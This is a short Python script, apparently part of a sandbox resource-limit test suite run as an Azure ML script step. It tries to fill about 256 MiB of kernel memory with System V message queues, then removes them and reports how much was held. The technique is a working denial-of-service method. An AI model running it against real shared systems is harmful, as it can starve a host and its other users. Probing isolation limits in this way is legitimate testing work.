"""Takes memory of the kernel in message queues, which stay when every process has ended (by itself 256 MiB)."""

import ctypes
import time

from attack import LIBC, exhausting


@exhausting
def azureml_main(dataframe1=None, dataframe2=None):
    held, total = [], 0
    message = ctypes.create_string_buffer(b"\1" + bytes(7) + bytes(8000))
    while total < 256 << 20:
        queue = LIBC.msgget(0, 0o1600)
        if queue < 0:
            break
        held.append(queue)
        while LIBC.msgsnd(queue, message, ctypes.c_size_t(8000), 0o4000) == 0:
            total += 8000
    time.sleep(0.3)
    for queue in held:
        LIBC.msgctl(queue, 0, None)
    return f"holds {total >> 20} MiB in queues" if total > 250 << 20 else ""
